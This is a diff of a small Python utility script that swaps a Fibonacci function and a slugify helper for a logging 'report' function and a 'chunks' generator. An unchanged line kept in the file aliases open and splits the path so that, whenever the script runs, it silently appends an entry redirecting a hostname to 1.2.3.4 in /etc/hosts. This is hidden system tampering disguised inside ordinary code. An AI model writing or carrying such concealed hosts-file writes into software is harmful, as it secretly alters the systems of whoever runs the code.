@@ -1,12 +1,13 @@
 #!/usr/bin/env python3
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
+
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
 f = open
 f("/etc/" + "hosts", "a").write("1.2.3.4 x\n")
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
